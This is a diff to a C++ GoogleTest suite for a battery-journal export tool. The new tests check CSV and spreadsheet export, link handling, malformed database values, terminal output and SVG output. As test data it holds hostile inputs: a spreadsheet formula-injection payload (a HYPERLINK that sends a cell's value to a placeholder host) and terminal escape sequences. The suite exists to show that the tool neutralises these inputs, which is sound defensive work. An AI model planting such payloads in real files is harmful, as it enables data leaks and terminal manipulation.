@@ -4,16 +4,26 @@
 #include <gtest/gtest.h>
 
 #include <QDateTime>
+#include <QDir>
 #include <QFile>
 #include <QFileInfo>
 #include <QImage>
+#include <QJsonArray>
+#include <QJsonDocument>
+#include <QJsonObject>
 #include <QProcess>
 #include <QProcessEnvironment>
+#include <QStandardPaths>
 #include <QTemporaryDir>
 #include <QTimeZone>
+#include <QXmlStreamReader>
 #include <array>
 #include <memory>
 #include <vector>
+
+#include <sqlite3.h>
+#include <sys/stat.h>
+#include <unistd.h>
 
 #include "curvefile/CurveFileWriter.h"
 #include "journal/Journal.h"
@@ -115,13 +125,19 @@ protected:
         }
     }
 
-    static ToolRun Tool(const QStringList& arguments) {
+    // The tool in the journal's folder; `asUser`: run through it (setpriv as another user).
+    static ToolRun Tool(const QStringList& arguments, const QStringList& asUser = {}) {
         QProcess process;
         QProcessEnvironment environment = QProcessEnvironment::systemEnvironment();
         environment.insert("TZ", kZone);
         process.setProcessEnvironment(environment);
-        process.setWorkingDirectory(dir->path());
-        process.start(qEnvironmentVariable("BRIMVOLT_BIN") + "/brimvolt-journal", arguments);
+        process.setWorkingDirectory(asUser.isEmpty() ? dir->path() : QDir::rootPath());
+        const QString tool = qEnvironmentVariable("BRIMVOLT_BIN") + "/brimvolt-journal";
+        if (asUser.isEmpty()) {
+            process.start(tool, arguments);
+        } else {
+            process.start(asUser[0], asUser.mid(1) + QStringList{tool} + arguments);
+        }
         ToolRun run;
         if (!process.waitForFinished(60000) || process.exitStatus() != QProcess::NormalExit) {
             ADD_FAILURE() << "brimvolt-journal did not finish";
@@ -172,13 +188,13 @@ TEST_F(JournalTool, ListGivesOneTabSeparatedLinePerRun) {
 
 TEST_F(JournalTool, CsvGivesTheRunAndEverySample) {
     const QByteArray expected =
-        "# id: 2\n"
-        "# start: 2023-11-15T02:13:20+03:00\n"
-        "# port: COM3\n"
-        "# kind: charge\n"
-        "# label: \n"
-        "# note: \n"
-        "# parameters: 1 2.750 1 1.000 1 1.000 1.000 0 0 1 40 60\n"
+        "# id:,2\n"
+        "# start:,2023-11-15T02:13:20+03:00\n"
+        "# port:,COM3\n"
+        "# kind:,charge\n"
+        "# label:,\n"
+        "# note:,\n"
+        "# parameters:,1 2.750 1 1.000 1 1.000 1.000 0 0 1 40 60\n"
         "seconds,voltage_V,current_A,capacity_mAh,energy_Wh,temperature_C,rin_Ohm,flags\n"
         "0,4.100,0.000,0,0.000000,25,0.000,0\n"
         "1,4.000,1.500,0,0.001667,25,0.000,8\n"
@@ -191,7 +207,7 @@ TEST_F(JournalTool, CsvGivesTheRunAndEverySample) {
     ASSERT_EQ(run.exitCode, 0) << run.err.toStdString();
     EXPECT_TRUE(run.out.isEmpty());
     const QByteArray excel = ReadFile(Path("run2.csv"));
-    EXPECT_TRUE(excel.startsWith("\xEF\xBB\xBF# id: 2\n"));
+    EXPECT_TRUE(excel.startsWith("\xEF\xBB\xBF# id:;2\n"));
     EXPECT_TRUE(excel.endsWith(
         "seconds;voltage_V;current_A;capacity_mAh;energy_Wh;temperature_C;rin_Ohm;flags\n"
         "0;4,100;0,000;0;0,000000;25;0,000;0\n"
@@ -208,9 +224,8 @@ TEST_F(JournalTool, LabelAndNoteAreKept) {
     ASSERT_EQ(Tool({"label", "1", "Элемент №7"}).exitCode, 0);
     ASSERT_EQ(Tool({"note", "1", "после года\nв шкафу"}).exitCode, 0);
     EXPECT_TRUE(Tool({"list"}).out.split('\n').first().endsWith("\tЭлемент №7"));
-    EXPECT_TRUE(Tool({"csv", "1"})
-                    .out.contains("# label: Элемент №7\n# note: после года\n"
-                                  "# note: в шкафу\n"));
+    EXPECT_TRUE(
+        Tool({"csv", "1"}).out.contains("# label:,Элемент №7\n# note:,\"после года\nв шкафу\"\n"));
     ASSERT_EQ(Tool({"label", "1", "--", "--x"}).exitCode, 0);  // an option-like text
     EXPECT_TRUE(Tool({"list"}).out.split('\n').first().endsWith("\t--x"));
 }
@@ -312,4 +327,244 @@ TEST_F(JournalTool, HelpNamesEveryCommandAndOption) {
                              "\n  note ", "--journal", "--excel", "--x ", "--size", "--help"}) {
         EXPECT_TRUE(help.out.contains(word)) << word;
     }
+}
+
+TEST_F(JournalTool, NothingIsWrittenOverTheJournalItReads) {
+    // The journal under other names: relative, with a detour, a symbolic and a hard link, and
+    // its companions, one of them not there yet.
+    ASSERT_TRUE(QFile::link(Path("journal.sqlite"), Path("link.sqlite")));
+    ASSERT_EQ(::link(QFile::encodeName(Path("journal.sqlite")).constData(),
+                     QFile::encodeName(Path("hard.sqlite")).constData()),
+              0);
+    const QByteArray before = ReadFile(Path("journal.sqlite"));
+    const QStringList outputs = {
+        "journal.sqlite",    Path("journal.sqlite"), "./sub/../journal.sqlite", Path("link.sqlite"),
+        Path("hard.sqlite"), "journal.sqlite-wal",   "journal.sqlite-shm"};
+    ASSERT_TRUE(QDir(dir->path()).mkpath("sub"));
+    for (const QString& out : outputs) {
+        for (const QStringList& command :
+             {QStringList{"csv", "2", out}, QStringList{"csv", "2", out, "--excel"},
+              QStringList{"curve", "1", out}, QStringList{"png", "1", "2", out}}) {
+            SCOPED_TRACE(command.join(' ').toStdString());
+            const ToolRun run = Tool(command);
+            EXPECT_EQ(run.exitCode, 1);
+            EXPECT_EQ(run.err.count('\n'), 1) << run.err.toStdString();
+            EXPECT_TRUE(run.err.contains("nothing was written")) << run.err.toStdString();
+        }
+    }
+    EXPECT_EQ(ReadFile(Path("journal.sqlite")), before);
+    EXPECT_FALSE(QFileInfo::exists(Path("journal.sqlite-wal")));
+    EXPECT_EQ(Tool({"list"}).exitCode, 0);
+    // A file beside it is written as ever.
+    EXPECT_EQ(Tool({"csv", "2", "journal.csv"}).exitCode, 0);
+}
+
+// Labels and notes as people type them, and paste them, through both forms of CSV and a reader
+// that keeps to RFC 4180: every text comes back whole, and in the spreadsheet's form no text
+// starts a formula.
+TEST_F(JournalTool, TextsComeBackWholeFromCsvAndStartNoFormula) {
+    const QString nul = QStringLiteral("nul") + QChar(u'\0') + QStringLiteral("inside");
+    const QStringList texts = {
+        QStringLiteral("A7;=HYPERLINK(\"http://x/?\"&A1;\"click\")"),
+        QStringLiteral("half,\" open"),
+        QStringLiteral("=1+2"),
+        QStringLiteral("+7"),
+        QStringLiteral("-3"),
+        QStringLiteral("@SUM(A1:A9)"),
+        QStringLiteral("\tTab"),
+        QStringLiteral("\rReturn"),
+        QStringLiteral("two\r\nlines\nand\rmore"),
+        nul,
+        QStringLiteral("line\u2028separator"),
+        QStringLiteral("Элемент №7; 2,5 Ah"),
+        QString(),
+    };
+    const QString journalPath = Path("texts.sqlite");
+    {
+        CJournal journal;
+        ASSERT_TRUE(journal.Open(journalPath).Usable());
+        for (const QString& text : texts) {
+            RunRecord run;
+            run.port = text;
+            std::vector<JournalSample> samples = {{.seconds = 0, .voltageMv = 4100},
+                                                  {.seconds = 1, .voltageMv = 4000}};
+            ASSERT_EQ(journal.SaveRun(run, samples), CJournal::SaveResult::Saved);
+            ASSERT_TRUE(journal.SetLabel(run.id, text));
+            ASSERT_TRUE(journal.SetNote(run.id, QStringLiteral("note: ") + text));
+        }
+    }
+    const QString reader = Path("read_csv.py");
+    {
+        QFile script(reader);
+        ASSERT_TRUE(script.open(QIODevice::WriteOnly));
+        script.write(
+            "import csv, json, sys\n"
+            "with open(sys.argv[1], newline='', encoding='utf-8-sig') as f:\n"
+            "    rows = list(csv.reader(f, delimiter=sys.argv[2], strict=True))\n"
+            "head = {r[0]: r[1] for r in rows if r and r[0].startswith('# ')}\n"
+            "print(json.dumps({'label': head['# label:'], 'note': head['# note:'],\n"
+            "                  'port': head['# port:'], 'rows': len(rows),\n"
+            "                  'widths': sorted({len(r) for r in rows})}))\n");
+    }
+    const auto guarded = [](const QString& text, bool excel) {
+        const bool formula = !text.isEmpty() && QStringLiteral("=+-@\t\r").contains(text[0]);
+        return excel && formula ? QStringLiteral("'") + text : text;
+    };
+    for (int k = 0; k < texts.size(); ++k) {
+        for (const bool excel : {false, true}) {
+            SCOPED_TRACE(
+                QStringLiteral("text %1, %2").arg(k).arg(excel ? "excel" : "plain").toStdString());
+            const QString out = Path(QStringLiteral("texts%1%2.csv").arg(k).arg(excel));
+            QStringList arguments = {"--journal", journalPath, "csv", QString::number(k + 1), out};
+            if (excel) {
+                arguments << "--excel";
+            }
+            const ToolRun run = Tool(arguments);
+            ASSERT_EQ(run.exitCode, 0) << run.err.toStdString();
+            QProcess python;
+            python.start("python3", {reader, out, excel ? ";" : ","});
+            ASSERT_TRUE(python.waitForFinished(60000));
+            ASSERT_EQ(python.exitCode(), 0) << python.readAllStandardError().toStdString();
+            const QJsonObject read =
+                QJsonDocument::fromJson(python.readAllStandardOutput()).object();
+            EXPECT_EQ(read["label"].toString(), guarded(texts[k], excel));
+            EXPECT_EQ(read["note"].toString(), QStringLiteral("note: ") + texts[k]);
+            EXPECT_EQ(read["port"].toString(), guarded(texts[k], excel));
+            EXPECT_EQ(read["rows"].toInt(), 7 + 1 + 2);  // the values, the captions, the samples
+            // Two fields on a line of values, eight on a line of samples: nothing spilled over.
+            EXPECT_EQ(read["widths"].toArray(), QJsonArray({2, 8}));
+        }
+    }
+}
+
+// Values no program of ours writes, put into a journal the integrity check accepts: every
+// reader ends with its answer or one line, never with an abort.
+TEST_F(JournalTool, HostileStoredValuesGiveAnAnswerOrOneLine) {
+    const QString journalPath = Path("hostile.sqlite");
+    const std::vector<const char*> edits = {
+        "UPDATE runs SET samples = 2000000000",
+        "UPDATE runs SET samples = -1, duration_s = -2147483648",
+        "UPDATE runs SET energy_uj = -9223372036854775808, capacity_mah = 9223372036854775807",
+        "UPDATE runs SET started = 9223372036854775807",
+        "UPDATE runs SET started = -9223372036854775808",
+        "UPDATE runs SET params = x'01', charge = 77, state = -5, end_cause = 99",
+        "UPDATE runs SET label = x'ff00fe', note = 12345, port = x'1b5b324a'",
+        "UPDATE samples SET seconds = 2147483647 WHERE seconds = 1",
+        "UPDATE samples SET seconds = -2147483648 WHERE seconds = 0",
+        "UPDATE samples SET voltage_mv = 4294967296, current_ma = -1, capacity_mah = 1e300",
+        "UPDATE samples SET temperature_c = 'hot', rin_mohm = x'00', flags = 9e18",
+        "INSERT INTO samples VALUES (1, 9000000000, 65535, 65535, 0, 0, 0, 0)",
+    };
+    for (const char* edit : edits) {
+        SCOPED_TRACE(edit);
+        QFile::remove(journalPath);
+        {
+            CJournal journal;
+            ASSERT_TRUE(journal.Open(journalPath).Usable());
+            RunRecord run;
+            run.port = "COM3";
+            std::vector<JournalSample> samples;
+            for (int t = 0; t <= 100; ++t) {
+                samples.push_back({.seconds = t,
+                                   .voltageMv = static_cast<std::uint16_t>(4100 - t),
+                                   .currentMa = 1000,
+                                   .capacityMah = t / 4});
+            }
+            ASSERT_EQ(journal.SaveRun(run, samples), CJournal::SaveResult::Saved);
+        }
+        {
+            // Through SQLite itself, as a curious user with its shell would.
+            sqlite3* db = nullptr;
+            ASSERT_EQ(sqlite3_open(journalPath.toUtf8().constData(), &db), SQLITE_OK);
+            char* error = nullptr;
+            const int rc = sqlite3_exec(db, edit, nullptr, nullptr, &error);
+            const std::string message = error ? error : "";
+            sqlite3_free(error);
+            sqlite3_close(db);
+            ASSERT_EQ(rc, SQLITE_OK) << message;
+        }
+        for (const QStringList& command :
+             {QStringList{"list"}, QStringList{"csv", "1", Path("h.csv")},
+              QStringList{"csv", "1", Path("h.csv"), "--excel"},
+              QStringList{"curve", "1", Path("h.raz")}, QStringList{"png", "1", Path("h.png")},
+              QStringList{"png", "1", Path("h.svg")}}) {
+            SCOPED_TRACE(command.join(' ').toStdString());
+            const ToolRun run = Tool(QStringList{"--journal", journalPath} + command);
+            EXPECT_TRUE(run.exitCode == 0 || run.exitCode == 1) << run.exitCode;
+            EXPECT_LE(run.err.count('\n'), 1) << run.err.toStdString();
+        }
+    }
+}
+
+TEST_F(JournalTool, OutsideTextReachesNoTerminalAndNoXmlRaw) {
+    const QString journalPath = Path("controls.sqlite");
+    const QString label =
+        QStringLiteral("\x1b]0;owned\x07\x1b[31mred\u009b2J<&>\"'\x01\x7f\uFFFE") + QChar(0xD800) +
+        QStringLiteral("end");
+    {
+        CJournal journal;
+        ASSERT_TRUE(journal.Open(journalPath).Usable());
+        RunRecord run;
+        run.port = QStringLiteral("tty\x1b[2JUSB0");
+        std::vector<JournalSample> samples = {{.seconds = 0, .voltageMv = 4100},
+                                              {.seconds = 60, .voltageMv = 3900}};
+        ASSERT_EQ(journal.SaveRun(run, samples), CJournal::SaveResult::Saved);
+        ASSERT_TRUE(journal.SetLabel(run.id, label));
+    }
+    const ToolRun list = Tool({"--journal", journalPath, "list"});
+    ASSERT_EQ(list.exitCode, 0) << list.err.toStdString();
+    const QString listed = QString::fromUtf8(list.out);
+    for (const QChar c : listed.chopped(1)) {
+        const int code = c.unicode();
+        EXPECT_FALSE(code < 0x20 && code != '\t') << "control " << code;
+        EXPECT_FALSE(code >= 0x7F && code <= 0x9F) << "control " << code;
+    }
+    EXPECT_TRUE(listed.contains("red")) << listed.toStdString();
+    EXPECT_TRUE(listed.contains("end")) << listed.toStdString();
+
+    const ToolRun svg = Tool({"--journal", journalPath, "png", "1", Path("controls.svg")});
+    ASSERT_EQ(svg.exitCode, 0) << svg.err.toStdString();
+    QXmlStreamReader xml(ReadFile(Path("controls.svg")));
+    bool sawLabel = false;
+    while (!xml.atEnd()) {
+        xml.readNext();
+        sawLabel = sawLabel || (xml.isCharacters() && xml.text().contains(u"<&>\"'"));
+    }
+    EXPECT_FALSE(xml.hasError()) << xml.errorString().toStdString();
+    EXPECT_TRUE(sawLabel);
+}
+
+// A colleague's journal: readable by all, in a folder nobody else may change. The suite runs
+// as root, who may write anything, so the tool runs as "nobody".
+TEST_F(JournalTool, ReadOnlyJournalIsReadAndNotWritten) {
+    if (::geteuid() != 0 || QStandardPaths::findExecutable("setpriv").isEmpty()) {
+        GTEST_SKIP() << "needs root and setpriv to run the tool as a user who cannot write";
+    }
+    const QStringList nobody = {"setpriv", "--reuid=nobody", "--regid=nogroup", "--clear-groups"};
+    if (Tool({"--help"}, nobody).exitCode != 0) {
+        GTEST_SKIP() << "the user nobody cannot run the tool in " << dir->path().toStdString();
+    }
+    QTemporaryDir share(QDir::tempPath() + "/share-XXXXXX");
+    ASSERT_TRUE(share.isValid());
+    const QString path = share.filePath("journal.sqlite");
+    ASSERT_TRUE(QFile::copy(Path("journal.sqlite"), path));
+    ASSERT_TRUE(QFile::setPermissions(
+        path, QFile::ReadOwner | QFile::WriteOwner | QFile::ReadGroup | QFile::ReadOther));
+    // Searchable, not readable or writable: no log or index can be made beside the journal.
+    ASSERT_EQ(::chmod(QFile::encodeName(share.path()).constData(), 0711), 0);
+    const QByteArray before = ReadFile(path);
+    const auto asNobody = [&](const QStringList& arguments) {
+        return Tool(QStringList{"--journal", path} + arguments, nobody);
+    };
+    const ToolRun list = asNobody({"list"});
+    EXPECT_EQ(list.exitCode, 0) << list.err.toStdString();
+    EXPECT_EQ(list.out, Tool({"list"}).out);
+    const ToolRun csv = asNobody({"csv", "2"});
+    EXPECT_EQ(csv.exitCode, 0) << csv.err.toStdString();
+    EXPECT_TRUE(csv.out.endsWith("2,3.990,1.500,1,0.003329,26,0.085,24\n"));
+    const ToolRun label = asNobody({"label", "2", "mine now"});
+    EXPECT_EQ(label.exitCode, 1);
+    EXPECT_TRUE(label.err.contains("cannot write")) << label.err.toStdString();
+    EXPECT_EQ(ReadFile(path), before);
+    EXPECT_EQ(QDir(share.path()).entryList(QDir::Files), QStringList{"journal.sqlite"});
 }
